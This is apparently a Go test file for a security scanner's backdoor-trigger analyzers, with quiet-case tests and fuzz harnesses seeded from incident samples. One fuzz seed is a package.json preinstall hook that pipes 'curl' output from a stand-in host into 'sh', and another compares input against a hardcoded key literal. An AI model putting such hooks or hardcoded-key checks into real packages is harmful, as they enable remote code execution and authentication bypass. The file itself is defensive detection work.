package trigger

import (
	"os"
	"path/filepath"
	"testing"

	"glassbox.dev"
	"glassbox.dev/scan"
)

// TestQuiet: code that looks like a trigger but is not one raises nothing
// of medium or above from this family. (testdata/negative holds the cases
// every family must be quiet on; testdata/quiet those where another family
// reports something by design, such as GB0602 on any install script.)
func TestQuiet(t *testing.T) {
	dirs, _ := filepath.Glob("testdata/quiet/*")
	neg, _ := filepath.Glob("testdata/negative/*")
	dirs = append(dirs, neg...)
	if len(dirs) < 3 {
		t.Fatalf("want at least 3 quiet cases, found %d", len(dirs))
	}
	s := &scan.Scanner{Analyzers: []scan.Analyzer{analyzer{}}}
	for _, d := range dirs {
		res, err := s.ScanDir(t.Context(), d)
		if err != nil {
			t.Fatal(err)
		}
		if res.Files == 0 {
			t.Fatalf("%s: nothing scanned", d)
		}
		for _, f := range res.Findings {
			if f.Severity.Rank() >= glassbox.SeverityMedium.Rank() {
				t.Errorf("%s: %s %s at %s:%d: %s", d, f.RuleID, f.Severity, f.Path, f.Region.StartLine, f.Message)
			}
		}
	}
}

// TestPrebuiltInstallerIsLow: an installer that downloads a binary and
// runs it is reported, but low: the pattern is common and legitimate.
func TestPrebuiltInstallerIsLow(t *testing.T) {
	s := &scan.Scanner{Analyzers: []scan.Analyzer{analyzer{}}}
	res, err := s.ScanDir(t.Context(), "testdata/quiet/npm-prebuilt-binary")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Findings) != 1 || res.Findings[0].RuleID != RuleInstallDropper.ID || res.Findings[0].Severity != glassbox.SeverityLow || len(res.Findings[0].Flow) != 3 {
		t.Errorf("findings %+v, want one low GB1403 with its flow", res.Findings)
	}
}

func FuzzPackageJSONHooks(f *testing.F) {
	for _, p := range []string{"../../testdata/incidents/npm-postinstall-dropper/package.json", "testdata/quiet/npm-prebuilt-binary/package.json"} {
		if b, err := os.ReadFile(p); err == nil {
			f.Add(b)
		}
	}
	f.Add([]byte(`{"scripts":{"preinstall":"curl -s https://x.invalid/a | sh"}}`))
	f.Fuzz(func(t *testing.T, b []byte) {
		packageHooks(scan.NewFile("package.json", b), nil)
	})
}

func FuzzByteTriggers(f *testing.F) {
	for _, p := range []string{"../../testdata/incidents/vsftpd-2.3.4/str.c", "../../testdata/incidents/c-byte-trigger/request.c", "testdata/negative/c-file-header-parser/loader.c"} {
		if b, err := os.ReadFile(p); err == nil {
			f.Add(b)
		}
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		sf := scan.NewFile("a.c", b)
		defer sf.Close()
		byteTriggers([]*scan.File{sf})
	})
}

func FuzzConstantTimeLiteral(f *testing.F) {
	if b, err := os.ReadFile("../../testdata/incidents/go-constant-time-master-key/auth.go"); err == nil {
		f.Add(b)
	}
	f.Add([]byte("package p\nimport \"crypto/hmac\"\nfunc f(x []byte) bool { return hmac.Equal(x, []byte{0x41, 'b'}) }\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		constantTimeLiteral(scan.NewFile("a.go", b))
	})
}
